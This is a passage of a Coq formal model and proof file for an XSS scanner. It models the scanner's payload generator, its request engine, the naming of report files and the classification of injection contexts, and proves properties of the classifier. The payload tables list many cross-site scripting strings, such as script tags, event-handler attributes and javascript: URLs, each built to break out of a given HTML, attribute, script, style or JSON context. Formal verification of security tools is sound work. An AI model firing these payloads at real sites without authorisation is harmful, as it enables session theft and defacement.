            match model prompt with
            | None => []
            | Some EmptyString => []
            | Some response_text => extract_payloads response_text
            end
        end
    end.

Definition _html_text_payloads (trigger : string) : list string :=
  [ "<script>" +:+ trigger +:+ "</script>";
    "<img src=x onerror=" +:+ trigger +:+ ">";
    "<svg onload=" +:+ trigger +:+ ">";
    "<iframe src=javascript:" +:+ trigger +:+ ">";
    "<body onload=" +:+ trigger +:+ ">";
    "<details open ontoggle=" +:+ trigger +:+ ">";
    "<marquee onstart=" +:+ trigger +:+ ">" ].

Definition _double_quote_payloads (trigger : string) : list string :=
  [ DQ +:+ "><script>" +:+ trigger +:+ "</script>";
    DQ +:+ " onload=" +:+ DQ +:+ trigger +:+ DQ +:+ " x=" +:+ DQ;
    DQ +:+ " autofocus onfocus=" +:+ DQ +:+ trigger +:+ DQ +:+ " x=" +:+ DQ;
    DQ +:+ " onclick=" +:+ DQ +:+ trigger +:+ DQ +:+ " x=" +:+ DQ;
    DQ +:+ "><img src=x onerror=" +:+ trigger +:+ ">";
    DQ +:+ "><svg onload=" +:+ trigger +:+ ">";
    DQ +:+ " onerror=" +:+ DQ +:+ trigger +:+ DQ +:+ " src=" +:+ DQ +:+ "x" ].

Definition _single_quote_payloads (trigger : string) : list string :=
  [ "'><script>" +:+ trigger +:+ "</script>";
    "' onload='" +:+ trigger +:+ "' x='";
    "' autofocus onfocus='" +:+ trigger +:+ "' x='";
    "' onclick='" +:+ trigger +:+ "' x='";
    "'><img src=x onerror=" +:+ trigger +:+ ">";
    "'><svg onload=" +:+ trigger +:+ ">" ].

Definition _unquoted_attr_payloads (trigger : string) : list string :=
  [ " onload=" +:+ trigger +:+ " x=";
    " onclick=" +:+ trigger +:+ " x=";
    " onfocus=" +:+ trigger +:+ " autofocus x=";
    "><script>" +:+ trigger +:+ "</script>";
    "><img src=x onerror=" +:+ trigger +:+ ">" ].

Definition _attr_name_payloads (trigger : string) : list string :=
  [ " onload=" +:+ trigger +:+ " ";
    " onclick=" +:+ trigger +:+ " ";
    " onfocus=" +:+ trigger +:+ " autofocus ";
    "><script>" +:+ trigger +:+ "</script><x " ].

Definition _script_block_payloads (trigger : string) : list string :=
  [ ";" +:+ trigger +:+ "//";
    ";" +:+ trigger +:+ "/*";
    "</script><script>" +:+ trigger +:+ "</script><script>";
    "';" +:+ trigger +:+ "//";
    DQ +:+ ";" +:+ trigger +:+ "//";
    "-" +:+ trigger +:+ "//" ].

Definition _script_string_payloads (trigger : string) : list string :=
  [ "';" +:+ trigger +:+ "//";
    DQ +:+ ";" +:+ trigger +:+ "//";
    "'-" +:+ trigger +:+ "-'";
    DQ +:+ "-" +:+ trigger +:+ "-" +:+ DQ;
    "</script><script>" +:+ trigger +:+ "</script><script>" ].

Definition _style_block_payloads (trigger : string) : list string :=
  [ "</style><script>" +:+ trigger +:+ "</script><style>";
    "</style><img src=x onerror=" +:+ trigger +:+ "><style>";
    "} </style><script>" +:+ trigger +:+ "</script><style>" ].

Definition _html_comment_payloads (trigger : string) : list string :=
  [ "--><script>" +:+ trigger +:+ "</script><!--";
    "--><img src=x onerror=" +:+ trigger +:+ "><!--";
    "--><svg onload=" +:+ trigger +:+ "><!--" ].

Definition _json_payloads (trigger : string) : list string :=
  [ "\" +:+ DQ +:+ "><script>" +:+ trigger +:+ "</script>";
    "\" +:+ DQ +:+ "}}<script>" +:+ trigger +:+ "</script>";
    "\u003cscript\u003e" +:+ trigger +:+ "\u003c/script\u003e" ].

Definition _url_param_payloads (trigger : string) : list string :=
  [ "javascript:" +:+ trigger;
    "data:text/html,<script>" +:+ trigger +:+ "</script>";
    "javascript:void(" +:+ trigger +:+ ")";
    DQ +:+ " onload=" +:+ trigger +:+ " x=" +:+ DQ;
    "' onload=" +:+ trigger +:+ " x='" ].

(** The dictionary [payload_map] of [generate]. *)
Definition payload_map (context : InjectionContext) : string -> list string :=
  match context with
  | HTML_TEXT => _html_text_payloads
  | ATTR_VALUE_DOUBLE_QUOTE => _double_quote_payloads
  | ATTR_VALUE_SINGLE_QUOTE => _single_quote_payloads
  | ATTR_VALUE_NO_QUOTE => _unquoted_attr_payloads
  | ATTR_NAME => _attr_name_payloads
  | SCRIPT_BLOCK => _script_block_payloads
  | SCRIPT_STRING => _script_string_payloads
  | STYLE_BLOCK => _style_block_payloads
  | HTML_COMMENT => _html_comment_payloads
  | JSON_VALUE => _json_payloads
  | URL_PARAM => _url_param_payloads
  end.

(** [payload_map.get(context)]: a key that is no enumeration member is
    not in the dictionary. *)
Definition payload_map_get (context : PyVal) : option (string -> list string) :=
  match context with
  | VCtx c => Some (payload_map c)
  | _ => None
  end.

Definition traditional_payloads (context : PyVal) (trigger : string) : list string :=
  match payload_map_get context with
  | Some generator => generator trigger
  | None => [ "<script>" +:+ trigger +:+ "</script>" ]
  end.

(** [generate(cls, context, html_snippet)].  The call of
    [generate_ai_payloads] is positional: [context] lands in its
    [param_name] and [html_snippet] in its [context]. *)
Definition generate (cls : PayloadGenerator) (context html_snippet : PyVal)
    : M (list string) :=
  trigger ← get_trigger;
  let ai_payloads :=
    generate_ai_payloads cls context html_snippet EmptyString EmptyString in
  mret (traditional_payloads context trigger ++ ai_payloads)%list.

(** The parameters [generate] declares, after [cls]. *)
Definition generate_parameters : list string := ["context"; "html_snippet"].

(** A call [PayloadGenerator.generate(name=value, ...)]: Python binds the
    keywords to the declared parameters before the body runs, and raises
    [TypeError] for a keyword that names no parameter and for a missing
    [context]; [html_snippet] defaults to the empty string. *)
Definition call_generate (cls : PayloadGenerator)
    (kwargs : list (string * PyVal)) : M (list string) :=
  match List.find (fun kv => bool_decide (kv.1 ∉ generate_parameters)) kwargs with
  | Some (name, _) =>
      raise (TypeError
        ("generate() got an unexpected keyword argument '" +:+ name +:+ "'"))
  | None =>
      match (list_to_map kwargs : gmap string PyVal) !! "context" with
      | None =>
          raise (TypeError
            "generate() missing 1 required positional argument: 'context'")
      | Some context =>
          generate cls context
            (default (VStr EmptyString)
               ((list_to_map kwargs : gmap string PyVal) !! "html_snippet"))
      end
  end.

End Payloads.

(** ** [scanner/engine.py] *)

Module Engine.
Import PyStr Analyzer Runtime Payloads.

(** What a request comes to: a response, or an exception raised inside
    [session.get] / [session.post]. *)
Inductive outcome : Type :=
| Replied (r : Response)
| Failed (e : exn).

(** The engine object.  [url_] is [self.url].  [network] is the world
    behind [self.session]: it decides what a request comes to, given the
    requests sent before it.  [reporter] tells whether a reporter was
    handed to the engine. *)
Record XSSEngine : Type := {
  url_ : string;
  method : string;
  reporter : bool;
  network : list Request -> Request -> outcome
}.

(** [__init__] *)
Definition init (url method : string) (reporter : bool)
    (network : list Request -> Request -> outcome) : XSSEngine :=
  {| url_ := rstrip_chars "/" url; method := upper method;
     reporter := reporter; network := network |}.

(** [string.ascii_uppercase + string.digits] *)
Definition probe_alphabet : list ascii :=
  list_ascii_of_string "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789".

(** [_generate_probe] *)
Definition _generate_probe : M string :=
  random_part ← choices probe_alphabet 12;
  mret ("XSS_PROBE_" +:+ string_of_list_ascii random_part).

(** [_extract_snippet] and [_extract_broader_context], which differ in
    the default of [context_chars] only. *)
Definition _extract_snippet (html probe : string) (context_chars : nat) : string :=
  match find probe html with
  | None => EmptyString
  | Some probe_index =>
      let start := (probe_index - context_chars)%nat in
      let stop := (String.length html `min`
                   (probe_index + String.length probe + context_chars))%nat in
      str_take (stop - start) (str_drop start html)
  end.

Definition _extract_broader_context := _extract_snippet.

Definition record_request (req : Request) : M unit :=
  fun w =>
    (Ok tt,
     {| rng := rng w; sent := sent w ++ [req]; log := log w;
        findings_count := findings_count w;
        reporter_findings := reporter_findings w |}).

(** The request [session.get] or [session.post] sends for [params]. *)
Definition request_of (self : XSSEngine) (params : gmap string string) : Request :=
  {| verb := if String.eqb (method self) "GET" then GET else POST;
     target := url_ self; params := params |}.

(** [_send_request]: the two [except] clauses fall through to
    [return None]; an exception of another class propagates. *)
Definition _send_request (self : XSSEngine) (params : gmap string string)
    : M (option Response) :=
  fun w =>
    let req := request_of self params in
    (_ ← record_request req;
     match network self (sent w) req with
     | Replied response => mret (Some response)
     | Failed Timeout => _ ← say TimeoutLine; mret None
     | Failed (RequestException msg) =>
         _ ← say (RequestFailedLine (str_take 50 msg)); mret None
     | Failed e => raise e
     end) w.

Definition Reflection : Type :=
  string * Response * list InjectionContext * string * string.

(** [_test_reflection].  The list of contexts is an enumeration of the
    set [detect_all] builds; nothing below depends on its order. *)
Definition _test_reflection (self : XSSEngine) (param : string)
    (base_params : gmap string string) : M (option Reflection) :=
  probe ← _generate_probe;
  let test_params := <[param := probe]> base_params in
  response ← _send_request self test_params;
  match response with
  | None => mret None
  | Some response =>
      if negb (ok response) then mret None
      else if negb (contains probe (text response)) then mret None
      else
        let analyzer :=
          Analyzer.init (text response) probe
            (default EmptyString (header_content_type response)) in
        let contexts := elements (detect_all analyzer) in
        match contexts with
        | [] => mret None
        | _ =>
            let html_snippet := _extract_snippet (text response) probe 200 in
            let response_snippet :=
              _extract_broader_context (text response) probe 500 in
            mret (Some (probe, response, contexts, html_snippet, response_snippet))
        end
  end.

(** The success indicators of [_test_payload]. *)
Definition triggers : list string :=
  [ "alert("; "alert`"; "confirm("; "prompt("; "print(";
    "onerror="; "onload="; "onfocus="; "onclick=" ].

(** The decision of [_test_payload] on the text of a response. *)
Definition exploited (response_text payload : string) : bool :=
  let response_lower := lower response_text in
  existsb (fun trigger => contains (lower trigger) response_lower) triggers
  && (contains payload response_text
      || negb (contains (replace_char dq_char "&quot;" payload) response_text)).

(** [_test_payload] *)
Definition _test_payload (self : XSSEngine) (param payload : string)
    (base_params : gmap string string) : M (option string) :=
  let test_params := <[param := payload]> base_params in
  response ← _send_request self test_params;
  match response with
  | None => mret None
  | Some response =>
      if negb (ok response) then mret None
      else if exploited (text response) payload then mret (Some (url response))
      else mret None
  end.

Definition count_finding : M unit :=
  fun w =>
    (Ok tt,
     {| rng := rng w; sent := sent w; log := log w;
        findings_count := S (findings_count w);
        reporter_findings := reporter_findings w |}).

(** [reporter.add_finding] *)
Definition add_finding (param payload context url : string) : M unit :=
  fun w =>
    (Ok tt,
     {| rng := rng w; sent := sent w; log := log w;
        findings_count := findings_count w;
        reporter_findings :=
          reporter_findings w ++
          [ {| f_param := param; f_payload := payload;
               f_context := context; f_url := url |} ] |}).

Definition truthy (s : string) : bool :=
  match s with EmptyString => false | _ => true end.

(** The loop [for payload in payloads] of [scan_parameter]: the result
    tells whether the loop ended in its [break]. *)
Fixpoint test_payloads (self : XSSEngine) (param : string)
    (context : InjectionContext) (base_params : gmap string string)
    (payloads : list string) : M bool :=
  match payloads with
  | [] => mret false
  | payload :: rest =>
      exploit_url ← _test_payload self param payload base_params;
      match exploit_url with
      | Some exploit_url =>
          if truthy exploit_url then
            _ ← count_finding;
            _ ← say (PrintFinding param (value context) payload);
            _ ← say (ExploitUrl exploit_url);
            _ ← when (reporter self)
                  (add_finding param payload (value context) exploit_url);
            mret true
          else test_payloads self param context base_params rest
      | None => test_payloads self param context base_params rest
      end
  end.

(** The loop [for context in contexts] of [scan_parameter], with the
    running value of [vulnerabilities]. *)
Fixpoint scan_contexts (self : XSSEngine) (cls : PayloadGenerator)
    (param : string) (base_params : gmap string string)
    (html_snippet response_snippet : string)
    (contexts : list InjectionContext) (vulnerabilities : nat) : M nat :=
  match contexts with
  | [] => mret vulnerabilities
  | context :: rest =>
      payloads ← call_generate cls
        [ ("context", VCtx context); ("param_name", VStr param);
          ("html_snippet", VStr html_snippet);
          ("response_snippet", VStr response_snippet) ];
      _ ← when (gemini_enabled cls)
            (let traditional_count := 7%nat in
             let ai_count := (List.length payloads - traditional_count)%nat in
             when (0 <? ai_count)%nat
               (say (TestingPayloads (List.length payloads) traditional_count ai_count)));
      hit ← test_payloads self param context base_params payloads;
      scan_contexts self cls param base_params html_snippet response_snippet
        rest (if (hit : bool) then S vulnerabilities else vulnerabilities)
  end.

(** [scan_parameter] *)
Definition scan_parameter (self : XSSEngine) (cls : PayloadGenerator)
    (param : string) (base_params : gmap string string) : M nat :=
  _ ← say (TestingParameter param);
  _ ← say InjectingProbe;
  reflection_result ← _test_reflection self param base_params;
  match reflection_result with
  | None => _ ← say NotReflected; mret 0%nat
  | Some (probe, response, contexts, html_snippet, response_snippet) =>
      _ ← say (ReflectedIn (List.length contexts));
      _ ← foldr (fun ctx rest => _ ← say (ContextName (value ctx)); rest)
                (mret tt) contexts;
      _ ← when (gemini_enabled cls) (say AIAnalyzing);
      vulnerabilities ←
        scan_contexts self cls param base_params html_snippet response_snippet
          contexts 0;
      _ ← when (vulnerabilities =? 0)%nat (say NoWorkingPayloads);
      mret vulnerabilities
  end.

End Engine.

(** ** [scanner/reporter.py]: the name of the report file *)

Module Reporter.
Import PyStr.

(** [\\w] on code points below 256. *)
Definition word_char (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (((48 <=? n) && (n <=? 57)) || ((65 <=? n) && (n <=? 90)) || (n =? 95)
   || ((97 <=? n) && (n <=? 122))
   || (n =? 170) || (n =? 178) || (n =? 179) || (n =? 181) || (n =? 185)
   || (n =? 186) || ((188 <=? n) && (n <=? 190))
   || ((192 <=? n) && (n <=? 214)) || ((216 <=? n) && (n <=? 246))
   || (248 <=? n))%nat.

(** [re.sub(r'[^\\w\\-.]', '_', domain)] *)
Fixpoint underscore_others (domain : string) : string :=
  match domain with
  | EmptyString => EmptyString
  | String c rest =>
      String (if word_char c || mem_char c "-." then c else "_"%char)
             (underscore_others rest)
  end.

Section Reporter.

(** Outside the reporter: [urlparse], which gives the [netloc] and the
    [path] of a URL or raises ([None]), and the clock, read through
    [datetime.now().strftime("%Y-%m-%d_%H-%M-%S")]. *)
Variable urlparse : string -> option (string * string).
Variable timestamp : string.

(** [_generate_filename] *)
Definition _generate_filename (url : string) : string :=
  match urlparse url with
  | Some (netloc, path) =>
      let domain := match netloc with EmptyString => path | _ => netloc end in
      let sanitized := strip_chars "_" (underscore_others domain) in
      "xss-report_" +:+ timestamp +:+ "_" +:+ sanitized +:+ ".html"
  | None => "xss-report_" +:+ timestamp +:+ ".html"
  end.

(** The [filename] attribute [__init__] sets. *)
Definition init_filename (filename target_url : string) : string :=
  match target_url with
  | String _ _ => "reports/" +:+ _generate_filename target_url
  | EmptyString =>
      if negb (startswith "reports/" filename) then "reports/" +:+ filename
      else filename
  end.

End Reporter.

End Reporter.

(** * Scenarios and auxiliary notions

    The inputs of the concrete scenarios, and the notions the statements
    below are written with. *)

Import PyStr Re Analyzer Runtime Payloads Engine.

(** The third scenario of the specification. *)
Definition json_probe : string := "XSS_PROBE_AB12CD34EF56".
Definition json_body : string :=
  "{" +:+ DQ +:+ "q" +:+ DQ +:+ ":" +:+ DQ +:+ json_probe +:+ DQ +:+ "}".

(** The world after one number has been drawn. *)
Definition after_draw (w : World) : World := (draw w).2.

(** Two worlds that differ in their random source at most. *)
Definition same_but_rng (w w' : World) : Prop :=
  sent w' = sent w /\ log w' = log w /\
  findings_count w' = findings_count w /\
  reporter_findings w' = reporter_findings w.

(** The catalog read as data: each f-string of a template method as the
    text before and the text after its one [{trigger}] hole. *)
Definition templates (context : InjectionContext) : list (string * string) :=
  match context with
  | HTML_TEXT =>
      [ ("<script>", "</script>"); ("<img src=x onerror=", ">");
        ("<svg onload=", ">"); ("<iframe src=javascript:", ">");
        ("<body onload=", ">"); ("<details open ontoggle=", ">");
        ("<marquee onstart=", ">") ]
  | ATTR_VALUE_DOUBLE_QUOTE =>
      [ (DQ +:+ "><script>", "</script>");
        (DQ +:+ " onload=" +:+ DQ, DQ +:+ " x=" +:+ DQ);
        (DQ +:+ " autofocus onfocus=" +:+ DQ, DQ +:+ " x=" +:+ DQ);
        (DQ +:+ " onclick=" +:+ DQ, DQ +:+ " x=" +:+ DQ);
        (DQ +:+ "><img src=x onerror=", ">");
        (DQ +:+ "><svg onload=", ">");
        (DQ +:+ " onerror=" +:+ DQ, DQ +:+ " src=" +:+ DQ +:+ "x") ]
  | ATTR_VALUE_SINGLE_QUOTE =>
      [ ("'><script>", "</script>"); ("' onload='", "' x='");
        ("' autofocus onfocus='", "' x='"); ("' onclick='", "' x='");
        ("'><img src=x onerror=", ">"); ("'><svg onload=", ">") ]
  | ATTR_VALUE_NO_QUOTE =>
      [ (" onload=", " x="); (" onclick=", " x=");
        (" onfocus=", " autofocus x="); ("><script>", "</script>");
        ("><img src=x onerror=", ">") ]
  | ATTR_NAME =>
      [ (" onload=", " "); (" onclick=", " "); (" onfocus=", " autofocus ");
        ("><script>", "</script><x ") ]
  | SCRIPT_BLOCK =>
      [ (";", "//"); (";", "/*"); ("</script><script>", "</script><script>");
        ("';", "//"); (DQ +:+ ";", "//"); ("-", "//") ]
  | SCRIPT_STRING =>
      [ ("';", "//"); (DQ +:+ ";", "//"); ("'-", "-'"); (DQ +:+ "-", "-" +:+ DQ);
        ("</script><script>", "</script><script>") ]
  | STYLE_BLOCK =>
      [ ("</style><script>", "</script><style>");
        ("</style><img src=x onerror=", "><style>");
        ("} </style><script>", "</script><style>") ]
  | HTML_COMMENT =>
      [ ("--><script>", "</script><!--"); ("--><img src=x onerror=", "><!--");
        ("--><svg onload=", "><!--") ]
  | JSON_VALUE =>
      [ ("\" +:+ DQ +:+ "><script>", "</script>");
        ("\" +:+ DQ +:+ "}}<script>", "</script>");
        ("\u003cscript\u003e", "\u003c/script\u003e") ]
  | URL_PARAM =>
      [ ("javascript:", EmptyString); ("data:text/html,<script>", "</script>");
        ("javascript:void(", ")"); (DQ +:+ " onload=", " x=" +:+ DQ);
        ("' onload=", " x='") ]
  end.

(** A template with the trigger put in its hole. *)
Definition fill (trigger : string) (template : string * string) : string :=
  template.1 +:+ trigger +:+ template.2.

(** All payloads of a list embed one and the same trigger. *)
Definition share_a_trigger (payloads : list string) : Prop :=
  exists trigger, trigger ∈ JS_TRIGGERS /\
    forall payload, payload ∈ payloads -> contains trigger payload = true.

(** A catalog without AI, and a world whose random source counts
    0, 1, 2, ... *)
Definition no_ai : PayloadGenerator :=
  {| gemini_model := None; gemini_enabled := false |}.

Definition counting_world : World :=
  {| rng := fun i => i; sent := []; log := []; findings_count := 0;
     reporter_findings := [] |}.

(** The world after the request for [params] has gone out. *)
Definition after_request (self : XSSEngine) (params : gmap string string)
    (w : World) : World :=
  (record_request (request_of self params) w).2.

(** The two failures of the transport that [_send_request] catches. *)
Definition transport_failure (e : exn) : Prop :=
  e = Timeout \/ exists msg, e = RequestException msg.

Definition failure_line (e : exn) : LogLine :=
  match e with
  | RequestException msg => RequestFailedLine (str_take 50 msg)
  | _ => TimeoutLine
  end.

(** The payload of the fourth scenario of the specification, a response
    that reflects it as it is, and one that reflects it with its quote
    encoded. *)
Definition scenario_payload : string := DQ +:+ "><script>alert(1)</script>".
Definition reflected_raw : string :=
  "<input value=" +:+ DQ +:+ scenario_payload +:+ DQ +:+ ">".
Definition reflected_encoded : string :=
  "<input value=" +:+ DQ +:+ "&quot;><script>alert(1)</script>" +:+ DQ +:+ ">".

(** Following the words of the specification: an [on<event>=] handler
    token is [on], then the letters of an event name, then [=]. *)
Definition is_handler_token (token : string) : bool :=
  startswith "on" token && endswith "=" token
  && (3 <? String.length token)%nat
  && Soup.all_chars Soup.is_letter (str_take (String.length token - 3) (str_drop 2 token)).

(** A server that reflects the parameter [q] in a paragraph. *)
Definition echo (history : list Request) (req : Request) : outcome :=
  Replied {| status_code := 200;
             text := "<p>" +:+ default EmptyString (params req !! "q") +:+ "</p>";
             url := "http://target/?q=" +:+ default EmptyString (params req !! "q");
             header_content_type := Some "text/html" |}.

Definition echo_engine : XSSEngine := Engine.init "http://target/" "get" true echo.

(** An engine whose every request times out. *)
Definition dead_network (history : list Request) (req : Request) : outcome :=
  Failed Timeout.

Definition dead_engine : XSSEngine :=
  Engine.init "http://target/" "POST" true dead_network.

Definition unexpected_keyword : exn :=
  TypeError "generate() got an unexpected keyword argument 'param_name'".

(** Two worlds that differ in their log at most. *)
Definition same_but_log (w w' : World) : Prop :=
  sent w' = sent w /\
  findings_count w' = findings_count w /\
  reporter_findings w' = reporter_findings w.

(** The detector in charge of a context. *)
Definition in_charge (c : InjectionContext) : ContextAnalyzer -> gset InjectionContext :=
  match c with
  | JSON_VALUE => _detect_json
  | SCRIPT_BLOCK | SCRIPT_STRING => _detect_script_contexts
  | STYLE_BLOCK => _detect_style_block
  | HTML_COMMENT => _detect_html_comment
  | ATTR_VALUE_DOUBLE_QUOTE | ATTR_VALUE_SINGLE_QUOTE | ATTR_VALUE_NO_QUOTE
  | ATTR_NAME => _detect_attribute_contexts
  | HTML_TEXT => _detect_text_node
  | URL_PARAM => _detect_url_param
  end.

(** [tail] is what is left of [s] after some of its first characters. *)
Definition is_suffix (tail s : string) : Prop := exists front, s = front +:+ tail.

(** The loop of a star, with the matcher of its body as [step]. *)
Definition star_loop (greedy : bool)
    (step : string -> (string -> option string) -> option string)
    (k : string -> option string) : nat -> string -> option string :=
  fix loop (fuel : nat) (s : string) : option string :=
    let again :=
      match fuel with
      | O => None
      | S fuel' =>
          step s (fun s' =>
            if (String.length s' <? String.length s)%nat
            then loop fuel' s' else None)
      end in
    if greedy then or_else again (k s) else or_else (k s) again.

(** Every match of [r] starts in a text in which [p] occurs. *)
Definition needs (p : string) (r : regex) : Prop :=
  forall (s : string) (k : string -> option string) (x : string),
    run r s k = Some x -> contains p s = true.

(** A class with the AI enabled, whose model answers every prompt with
    two payloads, one to a line. *)
Definition two_line_answer : string :=
  "<svg onload=alert(1)>" +:+ NL +:+ "<img src=x onerror=alert(1)>".

Definition answering_ai : PayloadGenerator :=
  {| gemini_model := Some (fun _ => Some two_line_answer);
     gemini_enabled := true |}.

(** The payload loop goes on to the next payload after the request of
    [payload], sent after [history]: the answer is not taken for a
    success, or the transport failed in one of the two ways
    [_send_request] absorbs. *)
Definition passed_over (self : XSSEngine) (param : string)
    (base_params : gmap string string) (history : list Request)
    (payload : string) : bool :=
  match network self history (request_of self (<[param := payload]> base_params)) with
  | Replied response =>
      negb (ok response && exploited (text response) payload
            && truthy (url response))
  | Failed Timeout | Failed (RequestException _) => true
  | Failed _ => false
  end.

(** * Properties *)


(** ** Text *)

Lemma startswith_empty (s : string) : startswith EmptyString s = true.
Proof. by destruct s. Qed.

Lemma contains_empty (s : string) : contains EmptyString s = true.
Proof. destruct s; reflexivity. Qed.

Lemma startswith_app (p s : string) : startswith p (p +:+ s) = true.
Proof.
  induction p as [|c p IH]; simpl; [reflexivity |].
  by rewrite Ascii.eqb_refl, IH.
Qed.

Lemma contains_app_r (needle pre s : string) :
  contains needle s = true -> contains needle (pre +:+ s) = true.
Proof.
  intros H. induction pre as [|c pre IH]; simpl; [done|].
  rewrite IH. apply orb_true_r.
Qed.

(** A text put between two others occurs in the result. *)
Lemma contains_infix (needle pre post : string) :
  contains needle (pre +:+ needle +:+ post) = true.
Proof.
  apply contains_app_r.
  destruct (needle +:+ post) eqn:E; simpl.
  - destruct needle; [done | discriminate].
  - rewrite <- E, startswith_app. done.
Qed.

(** *** The primitives on examples *)

Example split_on_fences :
  split "```" "a```b``c```" = ["a"; "b``c"; EmptyString].
Proof. reflexivity. Qed.

Example strip_both_ends : strip "  a b  " = "a b".
Proof. reflexivity. Qed.

Example find_in_the_middle : find "cd" "abcde" = Some 2%nat.
Proof. reflexivity. Qed.

(** A lazy star takes the nearest end, a greedy one the farthest. *)
Example lazy_and_greedy :
  search (seqs [lit false "<"; Star false (dot true); lit false ">"]) "a<b>c>d"
    = Some ("<b>", "c>d") /\
  search (seqs [lit false "<"; Star true (dot true); lit false ">"]) "a<b>c>d"
    = Some ("<b>c>", "d").
Proof. split; reflexivity. Qed.

Example end_of_text_before_final_newline :
  found (seqs [lit false "=x"; Eos]) ("a=x" +:+ NL) = true /\
  found (seqs [lit false "=x"; Eos]) ("a=x" +:+ NL +:+ "b") = false.
Proof. split; reflexivity. Qed.

Example quoted_value_hides_the_end_of_tag :
  Soup.strings ("a<a title=" +:+ DQ +:+ "x>P" +:+ DQ +:+ ">q") = Some ["a"; "q"].
Proof. reflexivity. Qed.

Example unknown_marked_section_is_rejected :
  Soup.strings "<![foo[X]]>" = None.
Proof. reflexivity. Qed.

(** ** The classifier *)

(** The first two scenarios of the specification. *)
Example scenario_text_node :
  classify "<p>XSS_PROBE_AB12CD34EF56</p>" "XSS_PROBE_AB12CD34EF56" "text/html"
  = {[ HTML_TEXT ]}.
Proof. vm_compute. reflexivity. Qed.

Example scenario_double_quoted_attribute :
  classify ("<input value=" +:+ DQ +:+ "XSS_PROBE_AB12CD34EF56" +:+ DQ +:+ ">")
    "XSS_PROBE_AB12CD34EF56" "text/html"
  = {[ ATTR_VALUE_DOUBLE_QUOTE ]}.
Proof. vm_compute. reflexivity. Qed.

(** A script block with the probe inside a string literal, and a
    document the parser rejects, where the regular expression decides. *)
Example script_string_contexts :
  classify "<script>var a = 'XSS_PROBE_AB12CD34EF56';</script>"
    "XSS_PROBE_AB12CD34EF56" "text/html"
  = {[ SCRIPT_BLOCK; SCRIPT_STRING; HTML_TEXT ]}.
Proof. vm_compute. reflexivity. Qed.

Example fallback_on_rejected_markup :
  classify "<![ x>XSS_PROBE_AB12CD34EF56<" "XSS_PROBE_AB12CD34EF56" "text/html"
  = {[ HTML_TEXT ]}.
Proof. vm_compute. reflexivity. Qed.

(** C2.  For every body, probe and content type: when the probe is not a
    substring of the body, the classifier returns the empty set; no
    detector is run, so none contributes a context. *)
Theorem classify_probe_absent (body probe content_type : string) :
  contains probe body = false ->
  classify body probe content_type = ∅.
Proof.
  intros H. unfold classify, detect_all. simpl. by rewrite H.
Qed.

Lemma classify_probe_absent_witness :
  contains "XSS_PROBE_AB12CD34EF56" "<p>hello</p>" = false /\
  classify "<p>hello</p>" "XSS_PROBE_AB12CD34EF56" "text/html" = ∅.
Proof.
  split; [reflexivity |].
  apply (classify_probe_absent "<p>hello</p>" "XSS_PROBE_AB12CD34EF56" "text/html").
  reflexivity.
Defined.

(** The set built by a run of detectors holds exactly what some detector
    of the run reports. *)
Lemma elem_of_foldl_update (self : ContextAnalyzer)
    (ds : list (ContextAnalyzer -> gset InjectionContext))
    (start : gset InjectionContext) (c : InjectionContext) :
  c ∈ foldl (fun contexts d => contexts ∪ d self) start ds <->
  c ∈ start \/ exists d, d ∈ ds /\ c ∈ d self.
Proof.
  revert start. induction ds as [|d ds IH]; intros start; simpl.
  - split; [auto | intros [H | (d & Hd & _)]; [done | by apply not_elem_of_nil in Hd]].
  - rewrite IH, elem_of_union. split.
    + intros [[H | H] | (d' & Hd' & H)]; [by left | right; exists d | right; exists d'];
        split; auto; [left | by right].
    + intros [H | (d' & Hd' & H)]; [by left; left |].
      apply elem_of_cons in Hd' as [-> | Hd']; [by left; right | right; eauto].
Qed.

Lemma elem_of_run_detectors (self : ContextAnalyzer)
    (ds : list (ContextAnalyzer -> gset InjectionContext)) (c : InjectionContext) :
  c ∈ run_detectors ds self <-> exists d, d ∈ ds /\ c ∈ d self.
Proof.
  unfold run_detectors. rewrite elem_of_foldl_update. split.
  - intros [H | H]; [by apply not_elem_of_empty in H | done].
  - by right.
Qed.

Lemma detect_all_runs_detectors (self : ContextAnalyzer) :
  detect_all self = detect_all_in_order detectors self.
Proof. reflexivity. Qed.

Lemma run_detectors_permutation (self : ContextAnalyzer)
    (ds ds' : list (ContextAnalyzer -> gset InjectionContext)) :
  ds ≡ₚ ds' -> run_detectors ds self = run_detectors ds' self.
Proof.
  intros Hperm. apply set_eq. intros c.
  rewrite !elem_of_run_detectors.
  split; intros (d & Hd & Hc); exists d; split; auto.
  - by rewrite <- Hperm.
  - by rewrite Hperm.
Qed.

(** C8.  Classification depends on the triple (body, probe, content
    type) only, so that two runs on the same triple give the same set;
    and the detectors may be run in any order: every permutation of the
    seven detectors gives the set [detect_all] gives. *)
Theorem classification_is_order_independent
    (ds : list (ContextAnalyzer -> gset InjectionContext))
    (first second : ContextAnalyzer) :
  ds ≡ₚ detectors ->
  html first = html second ->
  probe first = probe second ->
  content_type first = content_type second ->
  detect_all first = detect_all second /\
  detect_all_in_order ds first = detect_all second.
Proof.
  intros Hperm Hh Hp Hc.
  assert (first = second) as -> by (destruct first, second; simpl in *; congruence).
  split; [reflexivity |].
  rewrite detect_all_runs_detectors. unfold detect_all_in_order.
  destruct (negb _); [reflexivity |]. by apply run_detectors_permutation.
Qed.

Lemma classification_is_order_independent_witness :
  reverse detectors ≡ₚ detectors /\
  detect_all_in_order (reverse detectors)
    (Analyzer.init "<p>XSS_PROBE_AB12CD34EF56</p>" "XSS_PROBE_AB12CD34EF56" "text/html")
  = classify "<p>XSS_PROBE_AB12CD34EF56</p>" "XSS_PROBE_AB12CD34EF56" "TEXT/HTML".
Proof.
  split; [apply reverse_Permutation |].
  apply (classification_is_order_independent (reverse detectors)
           (Analyzer.init "<p>XSS_PROBE_AB12CD34EF56</p>" "XSS_PROBE_AB12CD34EF56" "text/html")
           (Analyzer.init "<p>XSS_PROBE_AB12CD34EF56</p>" "XSS_PROBE_AB12CD34EF56" "TEXT/HTML"));
    [apply reverse_Permutation | reflexivity | reflexivity | reflexivity].
Defined.

(** C10.  With the empty string as probe the short-circuit of the
    classifier never fires, the empty string being a substring of every
    body; and whenever the content type contains [json] the classifier
    reports the JSON context, whatever the body holds. *)
Theorem empty_probe_defeats_the_short_circuit (body header : string) :
  contains "json" (lower header) = true ->
  contains EmptyString body = true /\
  JSON_VALUE ∈ classify body EmptyString header /\
  classify body EmptyString header ≠ ∅.
Proof.
  intros Hjson.
  assert (JSON_VALUE ∈ classify body EmptyString header) as Hin.
  { unfold classify. rewrite detect_all_runs_detectors.
